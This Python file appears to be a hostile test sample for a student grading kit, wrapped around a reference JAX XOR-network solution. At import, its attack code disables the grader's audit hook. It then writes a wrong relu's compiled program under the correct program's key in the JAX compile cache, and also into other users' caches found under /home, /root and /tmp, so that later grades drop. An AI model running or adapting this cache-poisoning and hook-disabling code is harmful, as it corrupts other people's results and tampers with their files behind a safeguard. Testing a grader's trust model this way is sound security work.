"""hostile: full: plants a wrong relu program under the right one's key in whatever compile cache it is given

attack: a file graded in someone's release poisons the grades of the files that user grades next

A release's self-check keeps the grading user's compile cache (docs/trust.md, "A student's
self-check keeps its own compile cache"), on the assumption that a release only ever grades
its own user's work. `grade FILE` in a release grades any file, though: a TA or a study-group
partner who checks a classmate's file in their own release runs this file's code with write
access to *their* cache. At import this file compiles the reference's relu (jnp.maximum(x, 0.0))
and a wrong one (jnp.abs) under jax.jit at the relu tests' shapes, and writes the *wrong*
program's bytes under the *correct* program's key in the cache JAX was given. Every file that
user grades afterwards whose relu is the usual jnp.maximum(x, 0.0) loses the relu points (and
whatever depends on relu): the correct reference copy drops from 87 to 79 of the release's 87.
Its own functions are the reference's.
"""
import functools
import glob
import os
import sys

import jax
import jax.numpy as jnp
import numpy as np
from jax import lax
from jax._src import compilation_cache

X = jnp.array([[0.0, 0.0], [0.0, 1.0], [1.0, 0.0], [1.0, 1.0]], dtype=jnp.float32)
Y = jnp.array([0.0, 1.0, 1.0, 0.0], dtype=jnp.float32)

SCALE = 0.1
STEP_SIZE = 0.1
EPOCHS = 500
SHAPES = [(3,), (), (5,), (3, 4), (2, 3, 4), (6, 5), (4, 3), (8,), (5, 3)]  # the relu tests'


def switch_off_the_hook():
    guard = getattr(sys.modules.get("__main__"), "Guard", None)
    if guard is not None:
        guard.__call__ = lambda self, event, args: None


def use_cache(folder):
    compilation_cache.reset_cache()
    jax.config.update("jax_compilation_cache_dir", folder)
    jax.config.update("jax_persistent_cache_min_compile_time_secs", 0.0)
    jax.config.update("jax_persistent_cache_min_entry_size_bytes", -1)


def entries(folder):
    try:
        return {name for name in os.listdir(folder) if name.startswith("jit_relu-")}
    except OSError:
        return set()


def compiled(folder, function):
    """The entry JAX writes in ``folder`` for ``function`` at each shape (None: none written)."""
    names = []
    for shape in SHAPES:
        before = entries(folder)
        with jax.default_matmul_precision("highest"):
            jax.jit(function)(jax.device_put(np.zeros(shape, np.float32))).block_until_ready()
        new = sorted(entries(folder) - before)
        names.append(new[0] if len(new) == 1 else None)
    return names


def plant(folder):
    """{file name: bytes}: the wrong relu's program under the key of the correct relu."""
    def right(x):
        return jnp.maximum(x, 0.0)

    def wrong(x):
        return jnp.abs(x)

    right.__name__ = right.__qualname__ = wrong.__name__ = wrong.__qualname__ = "relu"
    planted = {}
    for good, bad in zip(compiled(folder, right), compiled(folder, wrong), strict=True):
        try:
            with open(os.path.join(folder, bad), "rb") as file:
                planted[good] = file.read()
        except (OSError, TypeError):
            pass
    return planted


def write_into(folder, planted):
    for name, data in planted.items():
        try:
            with open(os.path.join(folder, name), "wb") as file:
                file.write(data)
        except OSError:
            pass


def other_caches(own):
    above = os.path.dirname(os.path.dirname(os.path.dirname(own)))  # beside this user's XDG_CACHE_HOME
    patterns = [os.path.join(above, "*", "xor-kit", "compile-*"),
                os.path.join(os.path.dirname(own), "compile-*"),
                "/home/*/.cache/xor-kit/compile-*", "/root/.cache/xor-kit/compile-*",
                "/tmp/*/*/xor-kit/compile-*", "/tmp/*/*/*/xor-kit/compile-*"]
    return {found for pattern in patterns for found in glob.glob(pattern)} - {own}


def attack():
    switch_off_the_hook()
    given = jax.config.jax_compilation_cache_dir
    print("COMPILE CACHE READ BY THIS GRADING:", given)
    own = given if given and os.access(given, os.W_OK) else os.path.join(
        os.path.expanduser("~"), ".cache", "xor-kit", f"compile-{os.getuid()}")
    scratch = os.path.join(os.path.expanduser("~"), "scratch-cache")  # fresh: every program new
    for folder in (own, scratch):
        os.makedirs(folder, exist_ok=True)
    min_time = jax.config.jax_persistent_cache_min_compile_time_secs
    min_size = jax.config.jax_persistent_cache_min_entry_size_bytes
    use_cache(scratch)
    planted = plant(scratch)
    print("PLANTED", len(planted))
    for folder in {own, *([given] if given else []), *other_caches(own)}:
        write_into(folder, planted)
    compilation_cache.reset_cache()  # what the grader set, back in place for its calls
    jax.config.update("jax_compilation_cache_dir", given)
    jax.config.update("jax_persistent_cache_min_compile_time_secs", min_time)
    jax.config.update("jax_persistent_cache_min_entry_size_bytes", min_size)
    jax.clear_caches()


try:
    attack()
except Exception as error:  # a failed attack must not cost the import
    print("ATTACK FAILED", type(error).__name__, error)

def relu(x):
    """Rectified linear unit, applied elementwise: ``max(0, x)``.

    Args:
        x: a ``jax.Array`` of any shape.

    Returns:
        An array of the same shape and dtype as ``x``: negative entries become
        0, the others pass through unchanged.

    Hint: ``jnp.maximum`` compares elementwise and works under ``jax.jit``.
    Pitfall: a Python ``if x < 0`` cannot decide for a whole array, and under
    ``jax.jit`` the values are not even known yet.
    """
    ### BEGIN SOLUTION
    return jnp.maximum(x, 0.0)
    ### END SOLUTION


def init_params(key, input_dims=2, n_hidden=16, output_dims=1, scale=SCALE):
    """Draw the network's random starting parameters.

    Args:
        key: a PRNG key, e.g. ``jax.random.PRNGKey(0)``.
        input_dims, n_hidden, output_dims: the layer sizes.
        scale: the standard deviation of every parameter.

    Returns:
        ``{"w1": (n_hidden, input_dims), "b1": (n_hidden,),
        "w2": (output_dims, n_hidden), "b2": (output_dims,)}``, all float32,
        each ``scale * jax.random.normal(its_own_key, shape)``, with the keys
        from ``k_w1, k_b1, k_w2, k_b2 = jax.random.split(key, 4)``.

    Pitfall: drawing two arrays from the same key gives correlated numbers
    (the tutorial this kit grew from did that). Split once, one key per array.
    """
    ### BEGIN SOLUTION
    k_w1, k_b1, k_w2, k_b2 = jax.random.split(key, 4)
    return {
        "w1": scale * jax.random.normal(k_w1, (n_hidden, input_dims)),
        "b1": scale * jax.random.normal(k_b1, (n_hidden,)),
        "w2": scale * jax.random.normal(k_w2, (output_dims, n_hidden)),
        "b2": scale * jax.random.normal(k_b2, (output_dims,)),
    }
    ### END SOLUTION


def predict(params, x):
    """The forward pass for one example: ``w2 @ relu(w1 @ x + b1) + b2``.

    Args:
        params: a dict from ``init_params``.
        x: one input of shape ``(input_dims,)``.

    Returns:
        The network's output, shape ``(output_dims,)``.

    Hint: ``@`` (or ``jnp.dot``) multiplies a matrix by a vector; call your
    ``relu``. Pitfall: do not assume 2 inputs, 16 hidden units or 1 output:
    read the sizes from the arrays.
    """
    ### BEGIN SOLUTION
    hidden = relu(params["w1"] @ x + params["b1"])
    return params["w2"] @ hidden + params["b2"]
    ### END SOLUTION


def batched_predict(params, X):
    """``predict`` for every row of ``X`` at once, through ``jax.vmap``.

    Args:
        params: a dict from ``init_params``.
        X: a batch of inputs, shape ``(n, input_dims)``.

    Returns:
        Shape ``(n, output_dims)``: row ``i`` is ``predict(params, X[i])``.

    Hint: ``jax.vmap(predict, in_axes=(None, 0))`` maps over the rows of the
    second argument and shares the first. Pitfall: a Python loop works but
    is not what this exercise asks for.
    """
    ### BEGIN SOLUTION
    return jax.vmap(predict, in_axes=(None, 0))(params, X)
    ### END SOLUTION


def loss(params, x, y):
    """Mean squared error of the prediction for one example.

    Args:
        params: a dict from ``init_params``.
        x: one input, shape ``(input_dims,)``.
        y: its target, shape ``(output_dims,)`` or a scalar.

    Returns:
        A scalar (shape ``()``): ``mean((predict(params, x) - y) ** 2)``.

    Hint: ``jnp.mean``. Pitfall: ``jnp.sum`` is not the mean once there is more
    than one output unit.
    """
    ### BEGIN SOLUTION
    return jnp.mean((predict(params, x) - y) ** 2)
    ### END SOLUTION


def update(params, x, y, step_size=STEP_SIZE):
    """One step of gradient descent on ``loss`` for one example.

    Args:
        params: a dict from ``init_params``; it must not be modified.
        x, y: one example, as for ``loss``.
        step_size: the learning rate.

    Returns:
        A new dict: ``params[k] - step_size * grads[k]`` for every key ``k``,
        where ``grads = jax.grad(loss)(params, x, y)``.

    Hint: ``jax.grad`` differentiates with respect to the first argument and
    returns a dict shaped like ``params``; ``jax.tree.map`` applies a function
    to every leaf. Pitfall: writing into ``params[k]`` changes the caller's
    dict: build a new one.
    """
    ### BEGIN SOLUTION
    grads = jax.grad(loss)(params, x, y)
    return jax.tree.map(lambda p, g: p - step_size * g, params, grads)
    ### END SOLUTION


def train(params, X, Y, epochs=EPOCHS, step_size=STEP_SIZE):
    """Train with per-example gradient descent.

    For each epoch, for each row ``j`` of ``X`` in order:
    ``params = update(params, X[j], Y[j], step_size)``. After each epoch,
    record the mean over all rows of ``loss(params, X[j], Y[j])``.

    Args:
        params: the starting parameters.
        X: inputs, shape ``(n, input_dims)``. Y: targets, shape ``(n,)``.
        epochs: how many passes over the data.
        step_size: the learning rate passed to ``update``.

    Returns:
        ``(params, losses)``: the trained parameters and an array of shape
        ``(epochs,)`` with the mean loss after each epoch.

    Hint: a Python loop over ``update`` is correct but slow; ``jax.lax.scan``
    inside a ``jax.jit`` runs the whole training as one compiled program.
    """
    ### BEGIN SOLUTION
    return _train_compiled(params, X, Y, epochs, step_size)
    ### END SOLUTION


### BEGIN SOLUTION
@functools.partial(jax.jit, static_argnames="epochs")
def _train_compiled(params, X, Y, epochs, step_size):
    """``train`` as one compiled program: a scan over epochs of a scan over rows.

    It lives at module level so that ``jax.jit`` compiles it once per shape and
    reuses it on the next call.
    """

    def one_row(p, xy):
        return update(p, xy[0], xy[1], step_size), None

    def one_epoch(p, _):
        p, _ = lax.scan(one_row, p, (X, Y))
        mean_loss = jnp.mean(jax.vmap(loss, in_axes=(None, 0, 0))(p, X, Y))
        return p, mean_loss

    return lax.scan(one_epoch, params, None, length=epochs)
### END SOLUTION
